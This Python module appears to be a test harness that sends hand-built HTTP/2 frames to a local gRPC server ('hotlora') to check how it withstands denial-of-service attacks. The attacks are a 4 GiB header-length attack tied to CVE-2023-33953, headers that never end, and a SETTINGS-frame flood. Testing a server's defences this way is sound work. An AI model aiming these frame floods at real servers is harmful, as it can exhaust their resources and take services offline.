"""Attacks on a server of HTTP/2, made of raw frames: what no client library sends. RFC 9113 (frames), RFC 7541 (headers)."""

import contextlib
import select
import socket
import time

DATA, HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9
END_STREAM, END_HEADERS = 1, 4
LARGEST_FRAME = 16384


def integer(value, prefix_bits, first=0):
    """An integer as RFC 7541 5.1 has it; `first` has the bits before the prefix."""
    most = (1 << prefix_bits) - 1
    if value < most:
        return bytes([first | value])
    out, value = bytearray([first | most]), value - most
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + bytes([value]))


def text(value):
    value = value.encode("latin-1")
    return integer(len(value), 7) + value


def header(name, value):
    """Literal, never indexed, no Huffman."""
    return b"\x10" + text(name) + text(value)


def call_headers(path, *more):
    """The header block of a gRPC call."""
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "hotlora"), ("te", "trailers"),
              ("content-type", "application/grpc"), *more]
    return b"".join(header(name, value) for name, value in fields)


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def header_frames(block, stream):
    """The block in HEADERS and as many CONTINUATION frames as it needs."""
    frames = [frame(CONTINUATION if at else HEADERS, 0 if at + LARGEST_FRAME < len(block) else END_HEADERS, stream,
                    block[at:at + LARGEST_FRAME]) for at in range(0, len(block), LARGEST_FRAME)]
    return b"".join(frames)


class Connection:
    """An attacker's connection. It reads and drops what comes, so that the server never waits for it, but notes which frames."""

    def __init__(self, target, source):
        host, port = target.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), timeout=30, source_address=(source, 0))
        self.socket.setblocking(False)
        self.seen = []  # (kind, stream)
        self.closed = False
        self._rest = b""
        self.sent = 0
        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))

    def close(self):
        self.socket.close()

    def send(self, data, patience=30.0):
        """Whether all of it went out; false once the server has closed the connection, or reads nothing for `patience` s."""
        view, end = memoryview(data), time.monotonic() + patience
        while view and not self.closed and time.monotonic() < end:
            readable, writable, _ = select.select([self.socket], [self.socket], [], 0.5)
            if readable:
                self._read()
            if writable and not self.closed:
                try:
                    count = self.socket.send(view)
                except BlockingIOError:
                    continue
                except OSError:
                    self.closed = True
                    break
                view, self.sent, end = view[count:], self.sent + count, time.monotonic() + patience
        return not view

    def await_close(self, patience=30.0):
        """Whether the server closes the connection within so many seconds."""
        return self._await(lambda: self.closed, patience)

    def await_frame(self, kind, stream, patience=30.0):
        """Whether such a frame comes before the connection is closed."""
        self._await(lambda: self.closed or (kind, stream) in self.seen, patience)
        return (kind, stream) in self.seen

    def await_end(self, stream, patience=30.0):
        """Whether that call is answered or reset, or the connection closed."""
        return self._await(lambda: self.closed or not {(HEADERS, stream), (RST_STREAM, stream)}.isdisjoint(self.seen),
                           patience)

    def read(self, patience):
        """Reads what comes next."""
        if not self.closed and select.select([self.socket], [], [], patience)[0]:
            self._read()

    def _await(self, condition, patience):
        end = time.monotonic() + patience
        while not condition() and time.monotonic() < end:
            self.read(0.2)
        return condition()

    def _read(self):
        try:
            data = self.socket.recv(1 << 20)
        except BlockingIOError:
            return
        except OSError:
            data = b""
        self.closed = not data
        self._rest += data
        while len(self._rest) >= 9:
            size = int.from_bytes(self._rest[:3], "big")
            if len(self._rest) < 9 + size:
                return
            self.seen.append((self._rest[3], int.from_bytes(self._rest[5:9], "big")))
            self._rest = self._rest[9 + size:]


@contextlib.contextmanager
def attacker(target, source="127.0.0.2"):
    """A connection from that address of this machine."""
    connection = Connection(target, source)
    try:
        yield connection
    finally:
        connection.close()


def endless_string(connection, megabytes):
    """A header whose value says that it has 4 GiB, and its first bytes (CVE-2023-33953). Whether so many were taken."""
    block = call_headers("/hotlora.v1.ServerService/GetServerInfo") + b"\x10" + text("x-long") + integer((1 << 32) - 1, 7)
    connection.send(frame(HEADERS, 0, 1, block))
    part = frame(CONTINUATION, 0, 1, b"a" * LARGEST_FRAME)
    return all(connection.send(part) for _ in range(megabytes * (1 << 20) // LARGEST_FRAME))


def call(connection, path, *more, stream=1):
    """A call with an empty message."""
    return connection.send(header_frames(call_headers(path, *more), stream) + frame(DATA, END_STREAM, stream, bytes(5)))


def unended_headers(connection):
    """A call whose headers begin and never end."""
    return connection.send(frame(HEADERS, 0, 1, call_headers("/hotlora.v1.ServerService/GetServerInfo")))


def settings_flood(connection, count):
    """Whether the server took so many SETTINGS, each of which it must acknowledge."""
    some = frame(SETTINGS, 0, 0) * 100
    return all(connection.send(some) for _ in range(count // 100))
